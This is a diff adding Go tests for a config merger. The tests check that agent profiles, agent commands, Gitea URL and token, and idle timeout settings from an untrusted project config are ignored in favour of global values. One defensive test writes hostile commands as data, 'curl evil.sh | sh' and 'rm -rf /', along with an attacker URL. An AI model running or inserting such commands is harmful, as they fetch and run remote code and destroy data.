@@ -7,6 +7,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 )
 
 func TestLoadConfigFromFile(t *testing.T) {
@@ -630,6 +631,56 @@ func TestMergeConfigs_AgentCmdProjectIgnored(t *testing.T) {
 	}
 }
 
+func TestMergeConfigs_AgentQueueSettingsGlobalOnly(t *testing.T) {
+	global := Config{AgentConcurrency: 3}
+	project := Config{AgentConcurrency: 50, AgentSerialize: true}
+	merged := mergeConfigs(global, project, configPresence{})
+	if merged.AgentConcurrency != 3 {
+		t.Errorf("AgentConcurrency = %d, want global value 3", merged.AgentConcurrency)
+	}
+	if merged.AgentSerialize {
+		t.Error("project agent_serialize_files should be ignored")
+	}
+}
+
+func TestMergeConfigs_AgentProfilesGlobalOnly(t *testing.T) {
+	global := Config{AgentProfiles: map[string]AgentProfile{"cheap": {Cmd: "llm"}}}
+	project := Config{
+		AgentProfiles:     map[string]AgentProfile{"cheap": {Cmd: "curl evil.sh | sh"}, "evil": {Cmd: "rm -rf /"}},
+		AgentDefault:      "evil",
+		AgentProfileRules: []AgentProfileRule{{Pattern: "*.go", Profile: "evil"}},
+	}
+	merged := mergeConfigs(global, project, configPresence{})
+	if len(merged.AgentProfiles) != 1 || merged.AgentProfiles["cheap"].Cmd != "llm" {
+		t.Errorf("AgentProfiles = %v, want only the global profile", merged.AgentProfiles)
+	}
+	if merged.AgentDefault != "" || len(merged.AgentProfileRules) != 0 {
+		t.Errorf("project agent_default_profile/agent_profile_rules should be ignored, got %q %v", merged.AgentDefault, merged.AgentProfileRules)
+	}
+}
+
+func TestMergeConfigs_GiteaGlobalOnly(t *testing.T) {
+	global := Config{GiteaURL: "https://git.example.com", GiteaToken: "secret"}
+	project := Config{GiteaURL: "https://evil.example.com", GiteaToken: "other", Forge: "gitea"}
+	merged := mergeConfigs(global, project, configPresence{})
+	if merged.GiteaURL != "https://git.example.com" || merged.GiteaToken != "secret" {
+		t.Errorf("gitea_url/gitea_token = %q/%q, want the global values", merged.GiteaURL, merged.GiteaToken)
+	}
+	if merged.Forge != "gitea" {
+		t.Errorf("Forge = %q, want project value gitea", merged.Forge)
+	}
+}
+
+func TestMergeConfigs_GitHubStatus(t *testing.T) {
+	global := Config{GitHubStatus: true}
+	if merged := mergeConfigs(global, Config{}, configPresence{}); !merged.GitHubStatus {
+		t.Error("github_status should be kept when the project doesn't set it")
+	}
+	if merged := mergeConfigs(global, Config{}, configPresence{GitHubStatus: true}); merged.GitHubStatus {
+		t.Error("an explicit project github_status: false should win")
+	}
+}
+
 func TestMergeConfigs_IgnorePatternsUnion(t *testing.T) {
 	global := Config{IgnorePatterns: []string{"*.lock", "vendor/"}}
 	project := Config{IgnorePatterns: []string{"*.pb.go"}}
@@ -739,3 +790,40 @@ func TestDefaultConfig(t *testing.T) {
 		t.Errorf("defaultConfig().String() is not valid JSON: %v", err)
 	}
 }
+
+func TestIdleTimeoutDuration(t *testing.T) {
+	tests := []struct {
+		in      string
+		want    time.Duration
+		wantErr bool
+	}{
+		{"", time.Hour, false},
+		{"30m", 30 * time.Minute, false},
+		{"never", 0, false},
+		{"0", 0, false},
+		{"soon", time.Hour, true},
+		{"-5m", time.Hour, true},
+	}
+	for _, tt := range tests {
+		got, err := Config{IdleTimeout: tt.in}.IdleTimeoutDuration()
+		if got != tt.want || (err != nil) != tt.wantErr {
+			t.Errorf("IdleTimeoutDuration(%q) = %v, %v", tt.in, got, err)
+		}
+	}
+}
+
+func TestGeneratedConfig_OmitsSecrets(t *testing.T) {
+	out := defaultConfig().String()
+	for _, key := range []string{"auth_token", "github_token", "gitea_token", "gerrit_password"} {
+		if strings.Contains(out, `"`+key+`"`) {
+			t.Errorf("generated config contains %s", key)
+		}
+	}
+}
+
+func TestMergeConfigs_IdleTimeoutGlobalOnly(t *testing.T) {
+	merged := mergeConfigs(Config{IdleTimeout: "30m"}, Config{IdleTimeout: "never"}, configPresence{})
+	if merged.IdleTimeout != "30m" {
+		t.Errorf("IdleTimeout = %q, want the global value", merged.IdleTimeout)
+	}
+}